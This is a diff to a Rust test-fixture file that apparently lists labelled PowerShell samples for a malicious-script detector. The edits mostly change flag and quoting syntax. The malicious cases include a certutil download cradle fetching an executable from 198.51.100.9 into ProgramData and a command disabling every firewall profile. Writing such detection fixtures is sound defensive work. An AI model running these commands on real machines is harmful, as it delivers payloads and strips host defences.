@@ -77,7 +77,7 @@ pub const CASES: &[Case] = &[
         id: "M04",
         what: "certutil -urlcache to ProgramData",
         malicious: true,
-        script: "certutil.exe -urlcache -split -f 'http://198.51.100.9/a.exe' 'C:\\ProgramData\\a.exe'; Get-Item 'C:\\ProgramData\\a.exe' -ErrorAction 'Ignore'",
+        script: "certutil.exe /urlcache /split /f 'http://198.51.100.9/a.exe' 'C:\\ProgramData\\a.exe'; Get-Item 'C:\\ProgramData\\a.exe' -ErrorAction 'Ignore'",
         indicators: &[
             "download_cradle",
             "network_util",
@@ -187,7 +187,7 @@ pub const CASES: &[Case] = &[
         id: "M18",
         what: "firewall profiles off",
         malicious: true,
-        script: "Set-NetFirewallProfile -Profile Domain,Public,Private -Enabled False -ErrorAction 'SilentlyContinue'",
+        script: "Set-NetFirewallProfile -Profile 'Domain','Public','Private' -Enabled False -ErrorAction 'SilentlyContinue'",
         indicators: &["defense_evasion"],
     },
     Case {
@@ -279,7 +279,7 @@ pub const CASES: &[Case] = &[
         id: "B01",
         what: "SCCM client health check",
         malicious: false,
-        script: "$ErrorActionPreference = 'SilentlyContinue'; Get-Service -Name 'CcmExec' | Select-Object Status, StartType; Get-CimInstance -Namespace 'root\\ccm' -ClassName 'SMS_Client'",
+        script: "$ErrorActionPreference = 'SilentlyContinue'; Get-Service -Name 'CcmExec' | Select-Object 'Status','StartType'; Get-CimInstance -Namespace 'root\\ccm' -ClassName 'SMS_Client'",
         indicators: &[],
     },
     Case {
@@ -293,7 +293,7 @@ pub const CASES: &[Case] = &[
         id: "B03",
         what: "Defender settings read",
         malicious: false,
-        script: "Get-MpPreference -ErrorAction 'SilentlyContinue' | Select-Object DisableRealtimeMonitoring, ExclusionPath",
+        script: "Get-MpPreference -ErrorAction 'SilentlyContinue' | Select-Object 'DisableRealtimeMonitoring','ExclusionPath'",
         indicators: &[],
     },
     Case {
@@ -335,7 +335,7 @@ pub const CASES: &[Case] = &[
         id: "B09",
         what: "RMM agent disk report",
         malicious: false,
-        script: "$ErrorActionPreference = 'SilentlyContinue'; $disk = Get-CimInstance -ClassName 'Win32_LogicalDisk' -Filter 'DriveType=3'; $disk | ForEach-Object { '{0} {1:N1}GB free' -f $_.DeviceID, ($_.FreeSpace/1GB) }",
+        script: "$ErrorActionPreference = 'SilentlyContinue'; $disk = Get-CimInstance -ClassName 'Win32_LogicalDisk' -Filter 'DriveType=3'; $disk | ForEach-Object { '{0} {1} bytes free' -f $_.DeviceID, $_.FreeSpace }",
         indicators: &[],
     },
     Case {
@@ -391,7 +391,7 @@ pub const CASES: &[Case] = &[
         id: "B17",
         what: "Intune remediation: firewall switched back on",
         malicious: false,
-        script: "$p = Get-NetFirewallProfile -ErrorAction 'SilentlyContinue'; if ($p.Enabled -contains $false) { Set-NetFirewallProfile -Profile Domain,Public,Private -Enabled True }",
+        script: "$p = Get-NetFirewallProfile -ErrorAction 'SilentlyContinue'; if ($p.Enabled -contains $false) { Set-NetFirewallProfile -Profile 'Domain','Public','Private' -Enabled True }",
         indicators: &[],
     },
     Case {
